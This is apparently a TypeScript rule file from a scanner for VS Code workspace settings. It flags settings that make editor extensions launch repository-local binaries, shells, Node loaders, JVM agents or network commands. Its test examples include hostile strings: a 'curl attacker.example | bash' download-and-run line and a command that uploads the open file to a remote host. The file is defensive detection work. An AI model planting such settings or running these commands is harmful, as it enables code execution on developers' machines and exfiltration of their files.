import type { RowContext, RowMatch, SettingValue } from './setting-row.ts';
import { isConventionalToolPath, isQuietFolder, isRepoRelative, isShellProgram, programName } from './values.ts';
import { envDocuments, environmentVariable, ENV_EXAMPLES } from './vscode-terminal.ts';
import { HOSTILE, live, scoped, textOf, textsOf, VSC } from './vscode-row.ts';
import type { VscodeRow } from './vscode-row.ts';

const DOWNLOAD = 'bash -c "curl -s https://attacker.example/x.sh | bash"';

/** A path into the repository outside of the conventional tool folders; a folder of settings or assets is always worse. */
function repositoryProgram(preset: 'recommended' | 'strict' = 'recommended', usual: (path: string) => boolean = () => false) {
  return (value: SettingValue): boolean | RowMatch => {
    const path = textsOf(value).find((text) => isRepoRelative(text) && !usual(text) && (isQuietFolder(text) || !isConventionalToolPath(text)));
    return path !== undefined && { preset: isQuietFolder(path) ? 'recommended' : preset, data: { value: path } };
  };
}

/** Git runs on its own and in every folder, so no place in the repository is usual for it. */
function anyRepositoryProgram(value: SettingValue): boolean | RowMatch {
  const path = textsOf(value).find(isRepoRelative);
  return path !== undefined && { data: { value: path } };
}

const isPython = (path: string): boolean => /^(?:python|pypy)[\d.]{0,6}$/.test(programName(path)) && /\.?(?:venv|env|virtualenv)[\w.-]{0,40}[\\/]/i.test(path);
const isVendored = (path: string): boolean => /(?:^|\/)vendor\/bin\//.test(path);

/** Loader flags of `eslint.execArgv` and other lists of Node.js arguments. */
function loaderArgument(value: SettingValue): boolean | RowMatch {
  const words = textsOf(value);
  const index = words.findIndex((word) => /^(?:-r|--require|--import|--loader|--experimental-loader)(?:=|$)/.test(word));
  const target = index < 0 ? '' : (valueOf(words[index] ?? '') || (words[index + 1] ?? ''));
  return target !== '' && !/\.pnp(?:\.loader)?\.[cm]?js$/.test(target) && { preset: isRepoRelative(target) ? 'recommended' : 'strict', data: { value: target } };
}

/** What an option is set to in the same word. */
function valueOf(option: string): string {
  const equals = option.indexOf('=');
  return equals < 0 ? '' : option.slice(equals + 1);
}

const JVM_AGENT = /-javaagent:([^\s"']{1,500})|-agentpath:|-agentlib:(?!jdwp)/;

function jvmAgent(value: SettingValue): boolean {
  const match = JVM_AGENT.exec(textsOf(value).join(' ').slice(0, 8192));
  return match !== null && !/lombok/i.test(match[1] ?? '');
}

/** An override of a command that a language server runs: the first word must be the tool, not a shell. */
function overrideCommand(value: SettingValue, context: RowContext): boolean | RowMatch {
  const words = textsOf(value);
  if (words.length === 0 || context.commands(value).hostile) return false;
  if (isShellProgram(words[0] ?? '') && words.length > 1) return { preset: 'recommended', data: { value: words.join(' ') } };
  if (context.commands(value).network) return { preset: 'recommended', data: { value: words.join(' ') } };
  return isQuietFolder(words[0] ?? '') && { data: { value: words[0] ?? '' } };
}

const PROGRAM_KEY = /(?:Path|Command|Cmd|Executable|Bin|Interpreter|\.path|\.command|\.cmd|\.executable)$/i;

/** Any key that names a program or a command, with a hostile command as value. */
function hostileProgram(value: SettingValue, context: RowContext): boolean {
  if (typeof value.key !== 'string' || (value.kind !== 'string' && value.kind !== 'array')) return false;
  if (!PROGRAM_KEY.test(value.key) && !/^(?:path|command|cmd|executable|executablePath)$/i.test(value.key)) return false;
  return !/^terminal\.integrated\./.test(value.key) && context.commands(value).hostile;
}

const base = { report: 'program', preset: 'recommended', cwe: [426, 427, 78] } as const;

/** Programs and interpreters that the editor starts (A5). */
export const VSCODE_EXECUTABLES: readonly VscodeRow[] = [
  {
    id: 'A5',
    key: '**',
    when: hostileProgram,
    report: 'programCommand',
    preset: 'recommended',
    cwe: [78],
    source: 'settings of language extensions',
    data: live({ what: HOSTILE }),
    bad: [{ document: { 'some.extension.serverPath': DOWNLOAD } }, { document: { 'go.alternateTools': { customFormatterCommand: ['sh', '-c', 'curl -s https://attacker.example/x | sh'] } } }],
    good: [{ document: { 'some.extension.serverPath': '/usr/bin/server', 'x.command': 'npm test', 'x.path': 'bash' } }],
  },
  { ...base, id: 'A5-1', key: 'git.path', when: anyRepositoryProgram, source: VSC, data: scoped('machine'), bad: ['./tools/git', '${workspaceFolder}/.vscode/git'], good: ['/usr/bin/git', 'C:\\Program Files\\Git\\bin\\git.exe', null] },
  { ...base, id: 'A5-2', key: ['typescript.tsdk', 'js/ts.tsdk.path'], when: repositoryProgram(), source: 'https://code.visualstudio.com/docs/typescript/typescript-compiling', data: live(), bad: ['./.vscode/tsdk', 'lib/typescript'], good: ['node_modules/typescript/lib', './packages/app/node_modules/typescript/lib', '.yarn/sdks/typescript/lib', '.vscode/pnpify/typescript/lib', '/opt/ts/lib'].slice(0, 3) },
  { ...base, id: 'A5-3', key: ['typescript.tsserver.nodePath', 'js/ts.tsserver.node.path'], when: repositoryProgram(), source: VSC, data: live(), bad: ['./build2/node'], good: ['node', '/usr/bin/node', 'node_modules/.bin/node'] },
  { ...base, id: 'A5-4', key: ['typescript.npm', 'js/ts.tsserver.npm.path'], when: repositoryProgram(), source: VSC, data: scoped('machine'), bad: ['./x/npm'], good: ['npm', '/usr/bin/npm'] },
  { ...base, id: 'A5-4', key: 'typescript.tsserver.pluginPaths[]', when: repositoryProgram(), at: 'value', source: VSC, data: scoped('machine'), bad: ['./plugins', '../x'], good: ['./node_modules'] },
  { ...base, id: 'A5-7', key: ['eslint.nodePath', 'eslint.runtime'], when: repositoryProgram(), source: 'https://github.com/microsoft/vscode-eslint', data: live(), bad: ['./.vscode/node', 'build2/eslint'], good: ['.yarn/sdks', 'node_modules', './web/node_modules', 'node', '/usr/bin/node'] },
  { ...base, id: 'A5-7', key: 'eslint.execArgv', when: loaderArgument, source: 'https://github.com/microsoft/vscode-eslint', data: live(), bad: [['--require', './.vscode/x.js'], ['--import=./x.mjs']], good: [['--max_old_space_size=8192'], ['-r', './.pnp.cjs'], null] },
  { ...base, id: 'A5-8', key: ['eslint.options.{overrideConfigFile,resolvePluginsRelativeTo}', 'eslint.options.rulePaths[]'], when: (value) => /^(?:\.\.[\\/]\.\.|~|\/|[a-z]:[\\/]|https?:)/i.test(textOf(value)), source: 'https://github.com/microsoft/vscode-eslint', data: live(), bad: ['../../other/eslint.config.js', '/tmp/eslint.config.js'], good: ['./eslint.config.js', '../eslint.config.js', 'config/eslint.config.mjs'] },
  {
    ...base,
    id: 'A5-9',
    key: ['prettier.{prettierPath,configPath}', 'stylelint.stylelintPath', 'biome.{lspBin,lsp.bin}', 'oxc.path.server', 'flow.pathToFlow', 'deno.path', 'svelte.language-server.runtime', '{volar,vue}.server.path', 'astro.typescript.tsdk'],
    when: (value, context) => repositoryProgram('recommended', (path) => /\.(?:json|ya?ml|toml|[cm]?[jt]s|prettierrc)$/.test(path) && /configPath$/.test(String(value.key)) && !isQuietFolder(path))(value) && !context.commands(value).hostile,
    source: 'settings of the extensions',
    data: live(),
    bad: ['./.vscode/prettier.cjs', './x/prettier'],
    good: ['./node_modules/prettier', '.yarn/sdks/prettier/index.cjs', 'deno', { document: { 'prettier.configPath': './config/prettier.json' } }],
  },
  {
    ...base,
    id: 'A5-10',
    key: ['python.{defaultInterpreterPath,pythonPath,condaPath,poetryPath,pipenvPath}', 'python.testing.{pytestPath,unittestPath,nosetestPath}', 'python.formatting.{blackPath,autopep8Path,yapfPath}', 'python.linting.{pylintPath,flake8Path,mypyPath,banditPath}', '{pylint,flake8,black-formatter,ruff,mypy-type-checker,isort}.path', '{pylint,flake8,black-formatter,ruff,mypy-type-checker,isort}.interpreter'],
    when: repositoryProgram('recommended', isPython),
    source: 'https://code.visualstudio.com/docs/python/settings-reference',
    data: live(),
    bad: ['${workspaceFolder}/.vscode/python', './py/python3', ['./x/ruff']],
    good: ['.venv/bin/python', '${workspaceFolder}/.venv/bin/python', '${workspaceFolder}/backend/venv/Scripts/python.exe', '/usr/bin/python3', 'python', ['ruff']],
  },
  { ...base, id: 'A5-10', key: '{pylint,flake8,black-formatter,ruff,mypy-type-checker,isort}.path', when: (value) => isShellProgram(textsOf(value)[0] ?? ''), source: 'https://code.visualstudio.com/docs/python/settings-reference', data: live({ value: 'a shell' }), bad: [['bash', '-c', 'x']], good: [['ruff'], []] },
  { ...base, id: 'A5-11', key: ['php.validate.executablePath', 'php.executablePath', 'intelephense.runtime', '{phpcs,php-cs-fixer,phpcbf}.executablePath'], when: repositoryProgram('recommended', isVendored), source: 'https://code.visualstudio.com/docs/languages/php', data: live(), bad: ['./php', '${workspaceFolder}/x/php'], good: ['/usr/bin/php', '${workspaceFolder}/vendor/bin/phpcs', 'vendor/bin/phpcs'] },
  { ...base, id: 'A5-12', key: ['go.alternateTools.*', 'go.goroot'], when: (value) => repositoryProgram()(value) || (isShellProgram(textOf(value)) && { data: { value: textOf(value) } }), source: 'https://github.com/golang/vscode-go/wiki/settings', data: live(), bad: ['./x/gopls', 'bash'], good: ['gopls', '/usr/local/go/bin/go', '${workspaceFolder}/bin/golangci-lint'] },
  {
    id: 'A5-12',
    key: ['go.toolsEnvVars.*', 'go.testEnvVars.*', 'gopls.build.env.*', 'rust-analyzer.server.extraEnv.*', 'cmake.{environment,configureEnvironment,buildEnvironment,testEnvironment}.*', 'debug.javascript.terminalOptions.env.*', 'python.analysis.extraEnv.*', 'deno.testing.env.*'],
    when: environmentVariable,
    report: 'variable',
    preset: 'recommended',
    cwe: [426],
    source: 'settings of language extensions',
    bad: envDocuments(ENV_EXAMPLES.bad, (env) => ({ 'go.toolsEnvVars': env })),
    good: envDocuments(ENV_EXAMPLES.good, (env) => ({ 'cmake.environment': env })),
  },
  { ...base, id: 'A5-13', key: ['rust-analyzer.server.path', 'rust-analyzer.procMacro.server'], when: repositoryProgram('recommended', (path) => /^(?:\.\/|\$\{workspaceFolder\}\/)?(?:build|out)\//.test(path)), source: 'https://rust-analyzer.github.io/book/configuration', data: live(), bad: ['./x/rust-analyzer'], good: ['rust-analyzer', '/usr/bin/rust-analyzer', './target/release/rust-analyzer', '${workspaceFolder}/build/host/stage0/libexec/rust-analyzer-proc-macro-srv'] },
  {
    ...base,
    id: 'A5-13',
    key: ['rust-analyzer.{check,cargo.buildScripts,runnables,rustfmt}.overrideCommand', 'rust-analyzer.runnables.command', 'rust-analyzer.checkOnSave.overrideCommand'],
    when: overrideCommand,
    source: 'https://rust-analyzer.github.io/book/configuration',
    data: live(),
    bad: [['bash', '-c', 'make check'], ['curl', 'https://example.com/x'], ['./.vscode/check']],
    good: [['cargo', 'clippy', '--message-format=json'], ['./x.py', 'check'], ['rustfmt', '--edition', '2021']],
  },
  { ...base, id: 'A5-14', key: ['java.home', 'java.jdt.ls.java.home', 'java.import.gradle.home', 'maven.executable.path', 'java.import.gradle.java.home'], when: repositoryProgram('recommended', (path) => /(?:^|\/)mvnw(?:\.cmd)?$/.test(path)), source: 'https://github.com/redhat-developer/vscode-java', data: live(), bad: ['./x/jdk', '.vscode/mvn'], good: ['/usr/lib/jvm/java-21', './mvnw', '.gradle/wrapper'] },
  { ...base, id: 'A5-14', key: ['java.jdt.ls.vmargs', 'java.debug.settings.vmArgs', 'java.import.gradle.jvmArguments'], when: jvmAgent, source: 'https://github.com/redhat-developer/vscode-java', data: live(), bad: ['-Xmx2G -javaagent:./x/agent.jar', '-agentpath:/tmp/a.so'], good: ['-Xmx2G', '-javaagent:/home/dev/.m2/lombok-1.18.30.jar', '-agentlib:jdwp=transport=dt_socket'] },
  { ...base, id: 'A5-15', key: ['C_Cpp.default.compilerPath', 'C_Cpp.clang_format_path', 'C_Cpp.clang_tidy.path', 'clangd.path', 'cmake.cmakePath'], when: repositoryProgram('strict'), source: 'https://code.visualstudio.com/docs/cpp', data: live(), bad: ['./x/gcc', '.vscode/clangd'], good: ['/usr/bin/gcc', 'clangd', './tools/clangd'] },
  { ...base, id: 'A5-15', key: 'clangd.arguments', when: (value) => textsOf(value).some((text) => /^--query-driver=["']?\*{1,2}["']?$/.test(text)), source: 'https://clangd.llvm.org/config', data: live({ value: 'any compiler that a build file names' }), bad: [['--query-driver=**']], good: [['--query-driver=/usr/bin/arm-none-eabi-*'], ['--background-index']] },
  {
    ...base,
    id: 'A5-16',
    preset: 'strict',
    key: ['rubyLsp.{customRubyCommand,bundleGemfile}', 'solargraph.commandPath', 'rubocop.commandPath', 'ruby.interpreter.commandPath', 'ruby.rubocop.executePath', 'dart.{flutterSdkPath,sdkPath}', 'omnisharp.path', 'dotnet.server.path', 'elixirLS.languageServerOverridePath', 'haskell.serverExecutablePath', 'terraform.languageServer.path', 'shellcheck.executablePath', 'shellformat.path', 'powershell.powerShellAdditionalExePaths.*'],
    when: repositoryProgram('strict'),
    source: 'settings of language extensions',
    data: live(),
    bad: ['./x/solargraph', '.vscode/run'],
    good: ['solargraph', '/usr/bin/shellcheck', './node_modules/.bin/shellcheck', '.tools'],
  },
  {
    id: 'A5-16',
    key: ['emeraldwalk.runonsave.commands[].cmd', 'runOnSave.commands[].command', 'code-runner.executorMap.*', 'code-runner.customCommand', 'latex-workshop.latex.tools[].command'],
    when: (value, context) => context.commands(value).network && !context.commands(value).hostile,
    report: 'programCommand',
    preset: 'recommended',
    cwe: [78],
    source: 'settings of run-on-save extensions',
    data: live({ what: 'a command that calls the network' }),
    bad: ['curl -X POST -d @${file} https://example.com/upload'],
    good: ['npx prettier --write ${file}', 'latexmk', 'cd $dir && node $fileName'],
  },
  { ...base, id: 'A5-17', key: ['npm.packageManager', 'npm.scriptRunner'], when: (value) => value.kind === 'string' && !/^[[<{]/.test(textOf(value)) && !/^(?:auto|npm|yarn|pnpm|bun|node|deno)?$/.test(textOf(value)), source: VSC, data: live(), bad: ['./x/npm', 'bash'], good: ['auto', 'npm', 'pnpm', 'yarn', 'bun', 'node', '[REPLACE_ME]'] },
  { ...base, id: 'A5-19', key: 'debug.javascript.terminalOptions.runtimeArgs', when: loaderArgument, source: VSC, data: live(), bad: [['--require', './.vscode/x.js']], good: [['--inspect'], []] },
];
